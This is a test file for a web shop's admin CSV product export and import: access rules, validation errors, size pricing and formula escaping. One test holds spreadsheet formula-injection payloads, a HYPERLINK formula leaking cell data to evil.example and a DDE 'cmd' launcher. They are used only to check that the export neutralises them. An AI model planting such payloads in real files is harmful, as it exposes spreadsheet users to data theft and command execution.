import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { PRODUCT_CSV_COLUMNS } from '@wallart/domain';
import { ProductModel } from '../../db/models';
import { guardApostrophes, unescapeFormula } from './products-csv-rows';
import { createProduct, createUser, type SignedIn } from '../../test/factories';
import {
  apiError,
  clientFor,
  startTestApp,
  type TestApp,
  type TestClient,
} from '../../test/test-app';

let app: TestApp;
let admin: SignedIn;
let shopper: SignedIn;
let shop: TestClient;
let asAdmin: TestClient;

/** The header the shop exports, with its sizes column. */
const FULL_HEADER = PRODUCT_CSV_COLUMNS.join(',');
/** A file written before sizes had their own prices: no sizes column, which still imports. */
const HEADER = PRODUCT_CSV_COLUMNS.filter((c) => c !== 'sizes').join(',');

/** An import through the shared client, as the admin apps send one. */
function importCsv(csv: string, dryRun: boolean, who: TestClient = asAdmin) {
  return who.product.importCsv(csv, { dryRun });
}

/** The import's refusal (an ApiError); fails the test when the import goes through. */
const refusalOf = (csv: string, dryRun: boolean) => apiError(importCsv(csv, dryRun));

async function productIds() {
  const rows = await ProductModel.findAll({
    attributes: ['productId'],
    order: [['productId', 'ASC']],
  });
  return rows.map((r) => r.productId);
}

beforeAll(async () => {
  app = await startTestApp();
  admin = await createUser(app, { role: 'admin' });
  shopper = await createUser(app);
  shop = clientFor(app);
  asAdmin = clientFor(app, admin);
});
afterAll(async () => app.close());
beforeEach(async () => {
  await ProductModel.destroy({ where: {} });
});

describe('GET /api/product/export.csv', () => {
  it('is for admins only', async () => {
    expect((await apiError(shop.product.exportCsv())).status).toBe(401);
    expect((await apiError(clientFor(app, shopper).product.exportCsv())).status).toBe(403);
  });

  it('writes every product under the fixed header, lists joined by "|"', async () => {
    await createProduct(app, {
      productId: 'CSV-1',
      name: 'Sunset, "golden"',
      altNames: ['dusk', 'evening'],
      price: 4500.5,
      labeledPrice: 5000,
      category: 'Kitchen',
      description: 'Two lines\nof text',
      stock: 7,
      images: ['/uploads/a.jpg', '/uploads/b.jpg'],
    });
    await createProduct(app, { productId: 'CSV-2' });
    const text = await asAdmin.product.exportCsv();
    const answer = asAdmin.lastAnswer();
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toContain('text/csv');
    expect(answer.headers.get('content-disposition')).toMatch(/attachment; filename="products-/);
    expect(text.split('\n')[0]).toBe(FULL_HEADER);
    const records = parse(text, { columns: true }) as Record<string, string>[];
    expect(records).toHaveLength(2);
    expect(records[0]).toEqual({
      productId: 'CSV-1',
      name: 'Sunset, "golden"',
      altNames: 'dusk|evening',
      price: '4500.50',
      labeledPrice: '5000.00',
      category: 'Kitchen',
      description: 'Two lines\nof text',
      stock: '7',
      sizes: '12x18 in|4500.5|5000|7',
      images: '/uploads/a.jpg|/uploads/b.jpg',
    });
  });

  it('writes cells a spreadsheet would run as formulas as text, and imports them back unchanged', async () => {
    const texts = {
      name: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
      description: '+cmd|" /C calc"!A0',
      altNames: ['@SUM(1+1)', '-2+3', '\uFF1Dwide'],
    };
    // Text that already starts with apostrophes, with and without a formula character after.
    const quoted = { name: "'=already quoted", description: "''+twice", altNames: ["'plain"] };
    await createProduct(app, { productId: 'FX-1', ...texts });
    await createProduct(app, { productId: 'FX-2', ...quoted });
    const exported = await asAdmin.product.exportCsv();
    const records = parse(exported, { columns: true }) as Record<string, string>[];
    const cells = records.flatMap((r) => [r.name, r.description, r.altNames]);
    // No cell starts with a formula character (before: 3 of 6 did).
    expect(cells.filter((cell) => /^[=+\-@\t\r\uFF1D]/.test(cell ?? ''))).toEqual([]);
    expect(records[0]?.name).toBe(`'${texts.name}`);
    expect(records[0]?.description).toBe(`'${texts.description}`);
    expect(records[0]?.altNames).toBe(`'${texts.altNames.join('|')}`);
    expect(records[1]?.name).toBe(`'${quoted.name}`);

    const before = await Promise.all(['FX-1', 'FX-2'].map((id) => shop.product.get(id)));
    expect(await importCsv(exported, false)).toMatchObject({ updated: 2, errors: [] });
    const after = await Promise.all(['FX-1', 'FX-2'].map((id) => shop.product.get(id)));
    expect(after.map((p) => [p.name, p.description, p.altNames])).toEqual(
      before.map((p) => [p.name, p.description, p.altNames]),
    );
    expect(after[0]).toMatchObject(texts);
    expect(after[1]).toMatchObject(quoted);
    expect(await asAdmin.product.exportCsv()).toBe(exported);
  });

  it('an export imports back unchanged', async () => {
    await createProduct(app, { productId: 'RT-1', altNames: ['a', 'b'], price: 12.34 });
    const exported = await asAdmin.product.exportCsv();
    expect(await importCsv(exported, false)).toEqual({
      dryRun: false,
      created: 0,
      updated: 1,
      errors: [],
    });
    expect(await asAdmin.product.exportCsv()).toBe(exported);
  });
});

describe('POST /api/product/import', () => {
  const good = [
    HEADER,
    'NEW-1,Lotus Pond,lotus|pond,1500,2000,Religious,Calm water,4,/uploads/lotus.jpg',
    'OLD-1,Renamed Print,,99.99,120,Kitchen,,12,',
  ].join('\n');

  it('is for admins only and wants text/csv', async () => {
    expect((await apiError(importCsv(good, true, clientFor(app, shopper)))).status).toBe(403);
    // JSON instead of text/csv, which the client never sends: a raw request on purpose.
    const json = await app.call('POST', '/api/product/import?dryRun=true', {
      token: admin.token,
      body: { csv: good },
    });
    expect(json.status).toBe(415);
    expect(json.body).toEqual({
      code: 'unsupported_media_type',
      message: 'Send the file as text/csv',
    });
  });

  it('a dry run counts creates and updates and writes nothing', async () => {
    await createProduct(app, { productId: 'OLD-1', name: 'Old name' });
    expect(await importCsv(good, true)).toEqual({
      dryRun: true,
      created: 1,
      updated: 1,
      errors: [],
    });
    expect(asAdmin.lastAnswer().status).toBe(200);
    expect(await productIds()).toEqual(['OLD-1']);
    expect((await shop.product.get('OLD-1')).name).toBe('Old name');
  });

  it('imports: a new productId is created, an existing one updated', async () => {
    await createProduct(app, { productId: 'OLD-1', name: 'Old name', stock: 1 });
    expect(await importCsv(good, false)).toEqual({
      dryRun: false,
      created: 1,
      updated: 1,
      errors: [],
    });
    expect(asAdmin.lastAnswer().status).toBe(200);
    expect(await shop.product.get('NEW-1')).toMatchObject({
      name: 'Lotus Pond',
      altNames: ['lotus', 'pond'],
      price: 1500,
      labeledPrice: 2000,
      category: 'Religious',
      stock: 4,
      images: ['/uploads/lotus.jpg'],
    });
    expect(await shop.product.get('OLD-1')).toMatchObject({
      name: 'Renamed Print',
      price: 99.99,
      stock: 12,
      altNames: [],
    });
    // The search index follows imported rows.
    const found = await shop.product.search('lotus');
    expect(found.items.map((p) => p.productId)).toEqual(['NEW-1']);
  });

  it('a dry run names each bad row (by its line) and why', async () => {
    const csv = [
      HEADER,
      'A-1,Fine,,100,120,Kitchen,,1,',
      'A-2,,,abc,120,Bedroom,,1,',
      'A-3,"Two-line ""quoted""',
      'name",,100,120,Kitchen,"desc",-1,',
      'A-1,Again,,100,120,Kitchen,,1,',
      'bad id!,Name,,100,120,Kitchen,,1,ftp://x',
    ].join('\n');
    const report = await importCsv(csv, true);
    expect(asAdmin.lastAnswer().status).toBe(200);
    expect(report.created).toBe(1);
    expect(report.errors).toEqual([
      {
        row: 3,
        message:
          'name: Name is required; price: Price must be a number; category: Unknown category',
      },
      { row: 4, message: 'stock: Stock cannot be negative' },
      { row: 6, message: 'productId A-1 is already on row 2' },
      {
        row: 7,
        message:
          'productId: Product ID may hold letters, digits, - and _ only; images.0: Not an image URL',
      },
    ]);
  });

  it('with any bad row the real import writes nothing and answers 400 with the rows', async () => {
    await createProduct(app, { productId: 'OLD-1', name: 'Old name' });
    const csv = `${good}\nBAD-1,Broken,,10,10,Kitchen,,1.5,`;
    const error = await refusalOf(csv, false);
    expect(error.status).toBe(400);
    expect(error.code).toBe('invalid');
    expect(error.message).toBe('1 row has errors; nothing was imported');
    expect(error.errors).toEqual([{ path: 'row 4', message: 'stock: Stock is a whole number' }]);
    expect(await productIds()).toEqual(['OLD-1']);
    expect((await shop.product.get('OLD-1')).name).toBe('Old name');
  });

  it('refuses a row whose productId a product feed uses, and imports nothing', async () => {
    const csv = [
      HEADER,
      'NEW-2,Fine,,100,120,Kitchen,,1,',
      'new-arrivals,Hidden,,100,120,Kitchen,,1,',
    ];
    const error = await refusalOf(csv.join('\n'), false);
    expect(error.status).toBe(400);
    expect(error.errors).toEqual([
      {
        path: 'row 3',
        message: expect.stringMatching(/^productId: Product ID cannot be new-arrivals/),
      },
    ]);
    expect(await productIds()).toEqual([]);
  });

  it('refuses a wrong header, an empty file and broken CSV with a clear 400', async () => {
    const wrongHeader = await refusalOf('productId,title,price\nX,Y,1', true);
    expect(wrongHeader.status).toBe(400);
    expect(wrongHeader.message).toBe(
      `The header is wrong (missing column(s): name, labeledPrice, category, stock; unknown column(s): title). Expected: ${FULL_HEADER}`,
    );
    // The client sends an empty file as an empty text/csv body, like any other.
    const empty = await refusalOf('', true);
    expect(empty.status).toBe(400);
    expect(empty.message).toBe('The file is empty');
    const onlyHeader = await refusalOf(HEADER, true);
    expect(onlyHeader.message).toBe('The file has no products');
    const broken = await refusalOf(`${HEADER}\nA,"unclosed,1,2,Kitchen,,1,`, true);
    expect(broken.status).toBe(400);
    expect(broken.message).toMatch(/^The file is not valid CSV: /);
    const ragged = await refusalOf(`${HEADER}\nA,B`, true);
    expect(ragged.status).toBe(400);
  });

  it('refuses a file over 5 MB with 413', async () => {
    const big = `${HEADER}\n${'x'.repeat(5 * 1024 * 1024 + 10)}`;
    expect((await refusalOf(big, true)).status).toBe(413);
  });
});

describe('sizes in the CSV', () => {
  const LADDER = '12x18 in|4500|5000|3; 18x24 in|6500|7000|0; Large|9000|9500|1|30|40|cm';
  const row = (productId: string, sizes: string, price = '', stock = '') =>
    `${productId},Sized Print,,${price},${price},Kitchen,,${stock},"${sizes}",`;

  it('imports a sizes cell: each entry a size, in order, with the summary from them', async () => {
    const csv = [FULL_HEADER, row('SZ-1', LADDER)].join('\n');
    expect(await importCsv(csv, false)).toMatchObject({ created: 1, errors: [] });
    const product = await shop.product.get('SZ-1');
    expect(product.sizes).toEqual([
      {
        size: '12x18 in',
        price: 4500,
        labeledPrice: 5000,
        stock: 3,
        width: 12,
        height: 18,
        unit: 'in',
      },
      {
        size: '18x24 in',
        price: 6500,
        labeledPrice: 7000,
        stock: 0,
        width: 18,
        height: 24,
        unit: 'in',
      },
      {
        size: 'Large',
        price: 9000,
        labeledPrice: 9500,
        stock: 1,
        width: 30,
        height: 40,
        unit: 'cm',
      },
    ]);
    expect([product.price, product.labeledPrice, product.stock]).toEqual([4500, 5000, 4]);
  });

  it('exports every size and imports back unchanged, dimensions only where the label does not say them', async () => {
    await createProduct(app, {
      productId: 'SZ-RT',
      sizes: [
        { size: 'A3', price: 12.5, labeledPrice: 15, stock: 2 },
        { size: '12x18 in', price: 10, labeledPrice: 10, stock: 0 },
        {
          size: 'Framed',
          price: 99.99,
          labeledPrice: 120,
          stock: 5,
          width: 16,
          height: 20,
          unit: 'in',
        },
        {
          size: '30x40 cm',
          price: 40,
          labeledPrice: 40,
          stock: 1,
          width: 31,
          height: 41,
          unit: 'cm',
        },
      ],
    });
    const exported = await asAdmin.product.exportCsv();
    const [record] = parse(exported, { columns: true }) as Record<string, string>[];
    expect(record?.sizes).toBe(
      'A3|12.5|15|2; 12x18 in|10|10|0; Framed|99.99|120|5|16|20|in; 30x40 cm|40|40|1|31|41|cm',
    );
    expect([record?.price, record?.stock]).toEqual(['10.00', '8']);
    const before = await shop.product.get('SZ-RT');
    expect(await importCsv(exported, false)).toMatchObject({ updated: 1, errors: [] });
    expect(await asAdmin.product.exportCsv()).toBe(exported);
    const { updatedAt: _a, ...after } = await shop.product.get('SZ-RT');
    const { updatedAt: _b, ...was } = before;
    expect(after).toEqual(was);
  });

  it('a sizes cell replaces the sizes of an existing product', async () => {
    await createProduct(app, { productId: 'SZ-2', price: 100, labeledPrice: 100, stock: 9 });
    const csv = [FULL_HEADER, row('SZ-2', '18x24 in|700|800|4; 24x36 in|900|950|1')].join('\n');
    expect(await importCsv(csv, false)).toMatchObject({ updated: 1, errors: [] });
    const product = await shop.product.get('SZ-2');
    expect(product.sizes.map((s) => [s.size, s.price, s.stock])).toEqual([
      ['18x24 in', 700, 4],
      ['24x36 in', 900, 1],
    ]);
    expect([product.price, product.stock]).toEqual([700, 5]);
  });

  it('without a sizes cell a product gets, or keeps, one size from price and stock', async () => {
    await createProduct(app, { productId: 'ONE-1', price: 100, labeledPrice: 100, stock: 9 });
    const csv = [FULL_HEADER, row('ONE-1', '', '250', '3'), row('ONE-2', '', '80', '2')].join('\n');
    expect(await importCsv(csv, false)).toMatchObject({ created: 1, updated: 1, errors: [] });
    expect((await shop.product.get('ONE-1')).sizes).toEqual([
      {
        size: '12x18 in',
        price: 250,
        labeledPrice: 250,
        stock: 3,
        width: 12,
        height: 18,
        unit: 'in',
      },
    ]);
    expect((await shop.product.get('ONE-2')).sizes.map((s) => [s.size, s.price, s.stock])).toEqual([
      ['12x18 in', 80, 2],
    ]);
  });

  it('a product with several sizes keeps them from a file without sizes unless its price or stock changes', async () => {
    await createProduct(app, {
      productId: 'MULTI',
      sizes: [
        { size: '12x18 in', price: 100, labeledPrice: 120, stock: 1 },
        { size: '18x24 in', price: 200, labeledPrice: 220, stock: 2 },
      ],
    });
    const same = [HEADER, 'MULTI,Renamed,,100,120,Kitchen,,3,'].join('\n');
    expect(await importCsv(same, false)).toMatchObject({ updated: 1, errors: [] });
    const kept = await shop.product.get('MULTI');
    expect([kept.name, kept.sizes.length, kept.stock]).toEqual(['Renamed', 2, 3]);

    const changed = [HEADER, 'MULTI,Renamed,,150,120,Kitchen,,3,'].join('\n');
    expect((await importCsv(changed, true)).errors).toEqual([
      { row: 2, message: 'MULTI has 2 sizes: fill its sizes cell to change its prices or stock' },
    ]);
    const error = await refusalOf(changed, false);
    expect([error.status, error.errors]).toEqual([
      400,
      [
        {
          path: 'row 2',
          message: 'MULTI has 2 sizes: fill its sizes cell to change its prices or stock',
        },
      ],
    ]);
    expect((await shop.product.get('MULTI')).price).toBe(100);
  });

  it('names the entry of each bad size, and imports nothing', async () => {
    const csv = [
      FULL_HEADER,
      row('BAD-1', '12x18 in|4500|5000'),
      row('BAD-2', '12x18 in|4500|5000|3; 18x24 in|abc|7000|-1'),
      row('BAD-3', '12x18 in|1|1|1; Large|9000|9500|1'),
      row('BAD-4', '12x18 in|1|1|1; 12X18 IN|2|2|2'),
      row('BAD-5', 'Large|1|1|1|30|40|ft'),
      row('GOOD', '12x18 in|1|1|1'),
    ].join('\n');
    const report = await importCsv(csv, true);
    expect(report.created).toBe(1);
    expect(report.errors).toEqual([
      {
        row: 2,
        message:
          'sizes entry 1 ("12x18 in"): expected label|price|labeledPrice|stock, optionally followed by |width|height|unit',
      },
      {
        row: 3,
        message:
          'sizes entry 2 ("18x24 in") price: Price must be a number; sizes entry 2 ("18x24 in") stock: Stock cannot be negative',
      },
      {
        row: 4,
        message: expect.stringContaining(
          'sizes entry 2 ("Large") width: "Large" does not say its dimensions',
        ),
      },
      { row: 5, message: 'sizes entry 2 ("12X18 IN") size: "12X18 IN" is already size 1' },
      { row: 6, message: 'sizes entry 1 ("Large") unit: Unit is in or cm' },
    ]);
    const error = await refusalOf(csv, false);
    expect(error.errors.map((e) => e.path)).toEqual(['row 2', 'row 3', 'row 4', 'row 5', 'row 6']);
    expect(await productIds()).toEqual([]);
  });
});

describe('formula cells, one by one', () => {
  it('takes off the apostrophe the export put before =, +, -, @, a tab or a carriage return', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r', '\uFF1D']) {
      const text = `${start}1+1`;
      expect(unescapeFormula(`'${text}`), JSON.stringify(start)).toBe(text);
      expect(unescapeFormula(guardApostrophes(`'${text}`))).toBe(`'${text}`);
    }
    expect(unescapeFormula("'plain")).toBe("'plain");
    expect(guardApostrophes("'plain")).toBe("'plain");
  });
});
